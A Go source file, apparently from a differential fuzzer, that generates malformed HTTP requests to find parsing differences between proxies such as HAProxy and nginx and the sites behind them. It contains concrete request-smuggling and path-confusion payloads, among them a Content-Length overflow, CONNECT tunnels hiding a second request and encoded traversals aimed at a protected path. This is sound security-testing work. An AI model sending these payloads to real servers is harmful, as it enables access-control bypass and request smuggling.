package differential

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

var (
	paths = []string{"/tickets", "/tickets/", "/tickets/1", "/", "/open", "/open/../tickets", "/x/tickets", "/tickets/../open", "/ticketsx", "/open?/tickets", "//tickets"}

	pieces = []string{
		".", "..", "/", "//", "/./", "/../", "/..;/", "/.;/", "%2e", "%2E%2e/", "%2F", "%2f..%2f", "%5c", "\\", "/..\\", ";", ";x=1", ";/tickets", "?", "#", "%23", "%3f", "%3b",
		"%00", "\x00", "%", "%zz", "%u002e", "%u0074", "%25", "%252e", "%252f", "é", "%C3%A9", "%c0%ae", "%c0%af", "%e0%80%af", "%EF%BC%8F", "ſ", "%C5%BF", "+", " ", "\t", "%20", "%09", "%0a", "%0d%0a",
		"@", ":", ":80", "*", "&", "=", "|", "\"", "<", "{", "}", "^", "`", "[", "]", "\x7f", "\x80", "\xff", "~", "$", "!",
	}
	forms = []string{"http://a.example", "http://b.example", "HTTP://A.EXAMPLE:80", "https://a.example", "//a.example", "http://b.example@a.example", "http:", "/http://a.example", "ws://a.example", "http://a.example:81", "http://a.example#", "http:///", "/\\a.example"}
	hosts = []string{
		"A.Example", "a.example.", "a.example:80", "a.example:", "a.example:8080", "", "b.example", "a.example, b.example", "b.example, a.example", "[::1]", "[::1]:80", "a.example:x", "b.example:@a.example",
		"a.example/", "a.example\\", "a.example..", "a_example", "a.example%00", "b.example/@a.example", "http://a.example", "127.0.0.1", "a.example:080", "a.example:65536", "xn--a.example", "ａ.example", "a%2eexample", "a.example?b", "a.example#b",
	}
	methods = []string{"POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "get", "PROPFIND", "G ET", "TRACE", "CONNECT", "M-SEARCH", "PURGE"}
	fields  = []string{
		"X-Original-URL: /tickets", "X-Rewrite-URL: /tickets", "X-Forwarded-Host: a.example", "X-Host: a.example", "Forwarded: host=a.example", "X-Forwarded-Prefix: /tickets", "X-Forwarded-Path: /tickets",
		"SCRIPT_NAME: /x", "SCRIPT_NAME: /open", "Script-Name: /x", "PATH_INFO: /tickets", "X_Original_URL: /tickets", "Content_Length: 5", "X-HTTP-Method-Override: GET", "Host: b.example", "Host: a.example", "host : a.example", "Host\t: a.example", "HOST:a.example",
		"Connection: close", "Connection: keep-alive, X-A", "Connection: Host", "Connection: X-Forwarded-For, Cookie", "Connection: Content-Length", "Connection: Transfer-Encoding", "Connection: upgrade", "Upgrade: h2c", "Upgrade: websocket", "HTTP2-Settings: AAMAAABkAAQAAP__", "Keep-Alive: timeout=5", "Proxy-Connection: close",
		"Content-Length: 0", "Content-Length: 5", "Content-Length: 05", "Content-Length: +5", "Content-Length: 5, 5", "Content-Length: -1", "Content-Length: 0x5", "Content-Length: 5;", "Content-Length:\x0b5", "Content-Length : 5", "Content-Length: 18446744073709551616",
		"Transfer-Encoding: chunked", "Transfer-Encoding: Chunked", "Transfer-Encoding: identity", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: xchunked", "Transfer-Encoding:\x0bchunked", "Transfer-Encoding : chunked", "Transfer_Encoding: chunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding:\r\n chunked", "Transfer-Encoding: chunked;q=1", "Trailer: X-T", "TE: trailers",
		"Expect: 100-continue", "Expect: 200-ok", "Accept: */*", "Cookie: ropeline=abc; a=b", "Range: bytes=0-4", "If-None-Match: *", "X-A: \x00", "X-A: \xff", "X-A: a\rb", "X A: b", " X-A: b", "X-A", ": b", "X-A:", "(X): a", "X-A: " + strings.Repeat("b", 3000), "Authorization: Negotiate a", "Max-Forwards: 0", "Content-Type: application/x-www-form-urlencoded", "Content-Encoding: gzip",
	}
	protocols = []string{"HTTP/1.0", "HTTP/1.01", "HTTP/2.0", "http/1.1", "HTTP/0.9", "HTTP/1.2", "HTTP/1.1 ", ""}
	lineEnds  = []string{"\n", "\r", "\r\r\n", "\n\r\n", " \r\n", "\r\n\r\n"}
)

// remembered are requests that something came of once. They are sent first, by each way to each site.
var remembered = []string{
	// HAProxy counts 2^64 as 0, and hands it on to sites that count further.
	"GET /open HTTP/1.1\r\nX-Id: {id}\r\nHost: a.example\r\nContent-Length: 18446744073709551616\r\n\r\n",
	"GET /open HTTP/1.1\r\nX-Id: {id}\r\nHost: a.example\r\nCONTENT-LENGTH: 18446744073709551616\r\nContent-Length: 0\r\n\r\n",
	// It hands on HTTP/0.9 as well, of which sites read no fields.
	"GET /open HTTP/0.9\r\nX-Id: {id}\r\nHost: b.example\r\n\r\n",
	// nginx answers one without a version, and asks a site that refuses it.
	"GET http://a.example/%EF%BC%8F%C3%25A9/tickets\r\nX-Id: {id}\r\nHost: a.example.\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	// A path that differs from the room's by case alone, and has the room's further behind.
	"GET /TICKETS/;/tickets.%252e/OPEN HTTP/1.1\r\nX-Id: {id}\r\nHost: a.example\r\n\r\n",
	// A site that says yes to CONNECT has HAProxy make a tunnel, for what nobody asked about.
	"CONNECT http://a.example:80/open HTTP/1.1\r\nX-Id: {id}\r\nHost: a.example\r\n\r\nGET /tickets HTTP/1.1\r\nX-Id: {id}s\r\nHost: a.example\r\n\r\n",
	"CONNECT a.example:80 HTTP/1.1\r\nX-Id: {id}\r\nHost: a.example:80\r\n\r\nGET /tickets HTTP/1.1\r\nX-Id: {id}s\r\nHost: a.example\r\n\r\n",
	"CONNECT /open HTTP/1.1\r\nX-Id: {id}\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /tickets HTTP/1.1\r\nX-Id: {id}s\r\nHost: a.example\r\n\r\n",
	"CONNECT HTTP://A.EXAMPLE:80/open HTTP/1.1\r\nX-Id: {id}\r\nHost: a.example\r\nContent-Length: 59\r\n\r\nGET /tickets HTTP/1.1\r\nHost: a.example\r\nX-Id: {id}s\r\n\r\n",
}

// generate draws a request.
func generate(r *rand.Rand) *request {
	q := &request{whole: true}
	target := drawTarget(r)
	host, method, protocol := protectedHost, "GET", "HTTP/1.1"
	if r.IntN(4) == 0 {
		host = pick(r, hosts)
	}
	if r.IntN(3) == 0 {
		method = pick(r, methods)
		// A CONNECT has no content (RFC 9110, 9.3.6): HAProxy takes what follows for another request, which is asked about by itself.
		q.whole = method != "CONNECT"
	}
	if r.IntN(20) == 0 {
		protocol = pick(r, protocols)
		q.whole = false
	}
	lines := []string{strings.TrimSuffix(method+" "+target+" "+protocol, " "), "X-Id: {id}", "Host: " + host}
	for range max(0, r.IntN(5)-2) {
		f := pick(r, fields)
		if r.IntN(4) == 0 {
			name, value, _ := strings.Cut(f, ":")
			f = []string{strings.ToUpper(name), strings.ToLower(name), strings.ReplaceAll(name, "-", "_")}[r.IntN(3)] + ":" + value
		}
		lines = append(lines, f)
		q.whole = false
	}
	framing, body := q.drawBody(r)
	lines = append(lines, framing...)
	if len(framing) > 1 && r.IntN(2) == 0 {
		lines[len(lines)-1], lines[len(lines)-2] = lines[len(lines)-2], lines[len(lines)-1]
	}
	var b strings.Builder
	for i, l := range append(lines, "") {
		end := "\r\n"
		if i > 0 && r.IntN(150) == 0 { // the first has to be followed by the name
			end, q.whole = pick(r, lineEnds), false
		}
		b.WriteString(l + end)
	}
	q.raw = []byte(b.String() + body)
	return q
}

func pick(r *rand.Rand, from []string) string { return from[r.IntN(len(from))] }

// drawTarget draws what stands between method and protocol.
func drawTarget(r *rand.Rand) string {
	t := pick(r, paths)
	for range r.IntN(4) {
		at := r.IntN(len(t) + 1)
		switch r.IntN(8) {
		case 0, 1, 2:
			t = t[:at] + pick(r, pieces) + t[at:]
		case 3, 4:
			if at < len(t) {
				t = fmt.Sprintf([]string{"%s%%%02x%s", "%s%%%02X%s", "%s%%25%02x%s"}[r.IntN(3)], t[:at], t[at], t[at+1:])
			}
		case 5:
			t = "/" + pick(r, pieces) + t
		case 6:
			t = t[:at] + strings.ToUpper(t[at:])
		case 7:
			if r.IntN(30) == 0 {
				t += "/" + strings.Repeat("a", []int{1 << 10, 4 << 10, 9 << 10}[r.IntN(3)])
			} else {
				t += "?" + t
			}
		}
	}
	if r.IntN(12) == 0 {
		t = pick(r, forms) + t
	}
	return t
}

// drawBody draws a body and the fields that say where it ends. Half of those with two readings hide a request.
func (q *request) drawBody(r *rand.Rand) (framing []string, body string) {
	hidden := "GET " + pick(r, []string{"/tickets", "/open"}) + " HTTP/1.1\r\nHost: a.example\r\nX-Id: {id}s\r\n\r\n"
	content := pick(r, []string{"", "a", "item=4&n=1", "0\r\n\r\n", hidden})
	inner := strings.ReplaceAll(content, "{id}", "q0000000") // as long as what it becomes
	chunked := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(inner), content)
	if content == "" {
		chunked = "0\r\n\r\n"
	}
	length := fmt.Sprintf("Content-Length: %d", len(inner))
	switch r.IntN(16) {
	case 0, 1, 2:
		q.body = content
		return []string{length}, content
	case 3, 4, 5:
		q.body = content
		return []string{"Transfer-Encoding: chunked"}, chunked
	case 6: // what follows is a request of its own
		q.whole = false
		return nil, hidden
	case 7:
		q.whole = false
		inner := len(strings.ReplaceAll(chunked+hidden, "{id}", "q0000000"))
		return []string{fmt.Sprintf("Content-Length: %d", inner), pick(r, fields)}, chunked + hidden
	case 8:
		q.whole = false
		return []string{"Transfer-Encoding: chunked", pick(r, fields)}, "0\r\n\r\n" + hidden
	case 9: // chunks that lenient readers take
		q.whole = false
		size := fmt.Sprintf(pick(r, []string{"%x;a=b", "%x ", "0%x", "0x%x", "+%x", "%x\t", "%x;\n", "%x;\"", "%x\r", "000000000000000000%x"}), len(inner))
		return []string{"Transfer-Encoding: chunked"}, size + pick(r, []string{"\r\n", "\n", "\r"}) + content + pick(r, []string{"\r\n", "\n", ""}) + "0\r\n" + pick(r, []string{"\r\n", "X-T: a\r\n\r\n", "X-T : a\r\n\r\n", "\n"}) + hidden
	}
	return nil, ""
}
